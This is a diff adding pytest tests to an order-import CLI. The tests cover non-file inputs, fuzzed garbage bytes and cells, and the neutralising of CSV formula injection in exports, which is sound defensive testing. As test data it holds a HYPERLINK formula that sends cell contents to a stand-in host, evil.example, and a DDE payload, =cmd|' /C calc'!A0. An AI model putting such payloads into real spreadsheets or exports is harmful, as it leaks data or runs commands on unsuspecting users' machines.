@@ -5,9 +5,17 @@ dry runs and bad input. Sample exports are invented (tests/core/tiktok_samples.p
 from __future__ import annotations
 
 import csv
+import io
 import json
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from tests.cli.conftest import Orderdesk
 from tests.databases import fresh_url
@@ -205,3 +213,145 @@ def test_a_progress_bar_on_a_terminal_but_never_with_json(fresh, export, monkeyp
     assert "Reading rows" not in run.out
     run = fresh("import", "tiktok", str(export), "--dry-run", "--json")
     assert run.err == "" and run.json["dry_run"]
+
+
+# -- files that are not exports: refused at once, never a traceback ---------------------------------
+ROOT = Path(__file__).resolve().parents[2]
+
+
+@pytest.mark.parametrize("kind", ["a named pipe (FIFO)", "a character device"])
+def test_a_fifo_or_a_device_is_refused_at_once_with_exit_2(tmp_path, kind):
+    """In a child process with a timeout: a FIFO nobody writes to must not block the
+    import, and /dev/zero must not be read until memory runs out."""
+    if kind.startswith("a named pipe"):
+        path = tmp_path / "orders.csv"
+        os.mkfifo(path)
+    else:
+        path = Path("/dev/zero")
+    done = subprocess.run(
+        [sys.executable, "-m", "tui.cli", "--database-url", fresh_url(tmp_path, "db"), "import", "tiktok",
+         str(path), "--json"], cwd=ROOT, capture_output=True, text=True, timeout=60,
+        env={**os.environ, "ORDERDESK_NOW": NOW}, check=False)
+    assert done.returncode == 2, done.stderr
+    assert json.loads(done.stdout) == {"error": {"code": "bad_input", "message": (
+        f"{path} is {kind}, not a file. Save the export as a file (CSV or XLSX) and import that.")}}
+    assert "Traceback" not in done.stderr
+
+
+def _kept_the_contract(run, before: dict | None = None, after: dict | None = None) -> dict:
+    """Exit 0 with the summary, or exit 2 with the JSON error and nothing changed."""
+    assert run.code in (0, 2), run.out + run.err
+    assert "Traceback" not in run.out + run.err
+    out = json.loads(run.out)
+    if run.code == 2:
+        assert list(out) == ["error"] and out["error"]["code"] == "bad_input" and out["error"]["message"]
+        assert before == after
+    else:
+        assert out["added"] + out["updated"] + out["unchanged"] + out["skipped"] == out["orders_in_file"]
+        assert all(2 <= p["row"] <= out["rows"] + 2 and len(p["problem"]) < 400 for p in out["problems"])
+    return out
+
+
+_SNIFFED = [b"", b"PK\x03\x04", b"PK\x03\x04\x14\x00\x00\x00\x08\x00", b"\xef\xbb\xbf", b"\xff\xfe",
+            b"\xfe\xff", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", ",".join(HEADER).encode() + b"\n",
+            b"Order ID;Order Status;Seller SKU;Quantity;Created Time\n"]
+
+
+@settings(max_examples=40, deadline=None, derandomize=True,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(start=st.sampled_from(_SNIFFED), data=st.binary(max_size=4000))
+def test_garbage_bytes_never_crash_the_import(fresh, tmp_path, start, data):
+    path = tmp_path / "garbage"
+    path.write_bytes(start + data)
+    fresh.ok("orders", "list")  # the database exists
+    before = fresh.dump()
+    run = fresh("import", "tiktok", str(path), "--json")
+    _kept_the_contract(run, before, fresh.dump() if run.code else None)
+
+
+_NASTY = ["", " ", "NaN", "nan", "inf", "-inf", "Infinity", "1e999", "-1", "1e308", "9" * 40, "0", "0.001",
+          "0001-01-01T00:00:00+05:00", "9999-12-31T23:59:59-05:00", "99999-01-01", "31/12/9999 23:59:59",
+          "00/00/0000", "12/13/2026 25:61:61 PM", "2026-02-30", "=1+1", "\x00", "a\x00b", "\r\n", '"', "'",
+          "$", "€1.234,56", "1,2,3", "(5)", "٣", "²", "5.76E+17", "To ship", "Cancelled", "Shipped", "Buyer",
+          "Out of stock", "Cancel", "Return/Refund", "x" * 201]
+_CELL = st.one_of(st.text(max_size=30), st.sampled_from(_NASTY), st.integers().map(str), st.floats().map(str),
+                  st.builds(lambda c, n: c * n, st.characters(), st.integers(10_001, 150_000)))
+_ROW = st.builds(lambda n, fields: row(oid(n), **fields), st.integers(1, 4),
+                 st.dictionaries(st.sampled_from([h.replace("#", "").strip().replace(" ", "_").replace("/", "_")
+                                                  for h in HEADER]), _CELL, max_size=6))
+
+
+@settings(max_examples=60, deadline=None, derandomize=True,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(rows=st.lists(_ROW, min_size=1, max_size=5))
+def test_random_cells_are_bad_rows_never_a_crash(fresh, tmp_path, rows):
+    """Real imports (not dry runs), so the database's own limits are met too."""
+    path = write_csv(tmp_path / "random.csv", rows)
+    fresh.ok("orders", "list")  # the database exists
+    before = fresh.dump()
+    run = fresh("import", "tiktok", str(path), "--json")
+    _kept_the_contract(run, before, fresh.dump() if run.code else None)
+
+
+# -- CSV injection: the export is opened in spreadsheets ---------------------------------------------
+_FORMULAS = {"Buyer_Username": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
+             "Product_Name": "+1+1", "Variation": "@SUM(1+1)", "Seller_SKU": "-2+3"}
+
+
+def test_the_csv_export_neutralises_formulas_and_the_json_keeps_them(fresh, tmp_path):
+    path = write_csv(tmp_path / "formulas.csv", [
+        row(oid(1), Order_Status="Cancelled", Order_Substatus="", Cancel_By="Buyer",
+            Cancel_Reason="Bought by mistake", Cancelled_Time="14/11/2026 11:00:00", **_FORMULAS),
+        row(oid(2), Order_Status="Cancelled", Order_Substatus="", Cancelled_Time="14/11/2026 12:00:00",
+            Buyer_Username="@buyer", Product_Name="=cmd|' /C calc'!A0", Seller_SKU="MUG-01"),
+    ])
+    assert fresh.ok("import", "tiktok", str(path))["added"] == 2
+    out = tmp_path / "cancellations.csv"
+    fresh.ok("export", "cancellations", "-o", str(out))
+    on_stdout = fresh("export", "cancellations")
+    assert on_stdout.code == 0 and on_stdout.out == out.read_text(encoding="utf-8")
+    header, *rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
+    assert len(rows) == 2
+    for cells in rows:
+        for cell in cells:  # no cell a spreadsheet would run, but numbers stay numbers
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"-?\d+\.\d\d", cell)
+    first, second = (dict(zip(header, cells)) for cells in rows)
+    assert first["buyer"] == "'" + _FORMULAS["Buyer_Username"]
+    assert (first["sku"], first["title"]) == ("'-2+3", "'+1+1, @SUM(1+1)")
+    assert (second["buyer"], second["title"]) == ("'@buyer", "'=cmd|' /C calc'!A0, Blue")
+    # the amounts are untouched numbers, and add up to the JSON's refunds
+    exported = fresh.ok("export", "cancellations")
+    assert round(sum(float(r["refund_total"]) for r in (first, second)) * 100) == \
+        sum(c["refund"]["total"] for c in exported["cancellations"])
+    # JSON is not a spreadsheet: it keeps the text as it is
+    raw = {c["order_id"]: c for c in exported["cancellations"]}
+    assert raw[oid(1)]["buyer"] == _FORMULAS["Buyer_Username"]
+    assert (raw[oid(1)]["lines"][0]["sku"], raw[oid(1)]["lines"][0]["title"]) == ("-2+3", "+1+1, @SUM(1+1)")
+    assert raw[oid(2)]["lines"][0]["title"] == "=cmd|' /C calc'!A0, Blue"
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcalc", "'\tcalc"),
+    ("\rcalc", "'\rcalc"), ("- 1", "'- 1"), ("-1.50", "-1.50"), ("-3", "-3"), ("12.30", "12.30"),
+    ("Mug =1", "Mug =1"), ("", ""), (7, 7), (None, None),
+])
+def test_a_cell_is_made_inert_only_when_it_starts_like_a_formula(cell, written):
+    from core.export import inert
+
+    assert inert(cell) == written
+
+
+def test_a_negative_amount_stays_a_number_in_the_csv():
+    from core.export import write_csv as export_csv
+
+    refund = {"subtotal": -150, "shipping": 0, "tax": 0, "total": -150}
+    cancellation = {"id": "c", "order_id": "o", "shop": "+Shop", "buyer": "b", "currency": "USD",
+                    "source": "orderdesk", "type": "cancel", "role": "seller", "scope": "order",
+                    "package_id": None, "status": "success", "reason": "out_of_stock",
+                    "reason_text": "Out of stock", "reject_reason": None,
+                    "created_at": "2026-11-14T00:00:00+00:00", "updated_at": "2026-11-14T00:00:00+00:00",
+                    "lines": [], "refund": refund}
+    out = io.StringIO()
+    export_csv(out, [cancellation])
+    written = dict(zip(*csv.reader(io.StringIO(out.getvalue()))))
+    assert (written["shop"], written["refund_subtotal"], written["refund_total"]) == ("'+Shop", "-1.50", "-1.50")
